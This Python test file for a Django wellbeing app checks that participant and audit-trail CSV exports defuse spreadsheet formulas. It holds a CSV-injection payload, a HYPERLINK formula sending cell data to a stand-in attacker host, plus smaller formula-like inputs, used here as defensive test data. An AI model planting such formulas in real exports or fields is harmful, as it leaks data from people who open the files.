"""CSV exports (a participant's data, the audit trail) stay machine-readable and cannot run
as spreadsheet formulas, whatever staff typed into names and notes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from typing import Any

from django.urls import reverse
from django.utils import timezone

from alerts.models import Alert, AlertEvent, Rule
from tests.conftest import login
from tests.factories import grant_consent
from wellbeing.models import AuditEvent, Guardian, Participant, StaffMember

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def _alert_with_note(participant: Participant, note: str) -> Alert:
    rule = Rule.objects.filter(organization=participant.organization).first()
    assert rule is not None
    today = timezone.localdate()
    alert = Alert.objects.create(
        organization=participant.organization,
        participant=participant,
        rule=rule,
        rule_slug=rule.slug,
        severity="notify",
        evidence={"days": 3},
        window_start=today - dt.timedelta(days=4),
        window_end=today,
        raised_at=timezone.now(),
    )
    AlertEvent.objects.create(alert=alert, kind="note", note=note, created_at=timezone.now())
    return alert


def test_export_holds_alerts_with_their_history(
    admin: StaffMember, student: Participant, guardian: Guardian, notice: Any
) -> None:
    # given a student with an alert on which a counselor wrote a note
    grant_consent(student, guardian)
    _alert_with_note(student, "Talked to Alex after class.")
    # when the admin exports the student's data as JSON
    data = json.loads(login(admin).get(reverse("privacy:export", args=[student.pk])).content)
    # then the alert and its history (the note) are in the export
    assert [row["rule_slug"] for row in data["alerts.alert"]] != []
    assert [row["note"] for row in data["alerts.alertevent"]] == ["Talked to Alex after class."]


def test_participant_csv_is_json_for_lists_and_defuses_formulas(
    admin: StaffMember, student: Participant, guardian: Guardian, notice: Any
) -> None:
    # given a name typed as a formula, a consent record (its scopes are a list) and an alert
    Participant.objects.filter(pk=student.pk).update(full_name=FORMULA)
    grant_consent(student, guardian)
    _alert_with_note(student, "-1+1 looks like a formula too")
    # when exported as CSV
    url = reverse("privacy:export", args=[student.pk]) + "?format=csv"
    archive = zipfile.ZipFile(io.BytesIO(login(admin).get(url).content))
    # then the formula is text, the scopes are JSON, and the alert history is there
    assert _rows(archive, "participant.csv")[0]["full_name"] == "'" + FORMULA
    scopes = json.loads(_rows(archive, "consent.consentrecord.csv")[0]["scopes"])
    assert scopes == ["emotion_analysis", "face_template"]
    assert _rows(archive, "alerts.alertevent.csv")[0]["note"].startswith("'-1+1")
    assert json.loads(_rows(archive, "alerts.alert.csv")[0]["evidence"]) == {"days": 3}


def test_audit_csv_defuses_formulas_and_writes_json_detail(
    admin: StaffMember, student: Participant
) -> None:
    # given an audit event whose actor label and detail came from typed text
    AuditEvent.objects.create(
        organization=admin.organization,
        action="participant.list",
        actor_label=FORMULA,
        detail={"q": "@SUM(1)"},
    )
    # when the admin exports the trail
    response = login(admin).get(reverse("audit_csv") + "?action=participant.list")
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["action"] == "participant.list")
    # then nothing in it can run as a formula, and the detail is JSON
    assert row["actor_label"] == "'" + FORMULA
    assert json.loads(row["detail"]) == {"q": "@SUM(1)"}
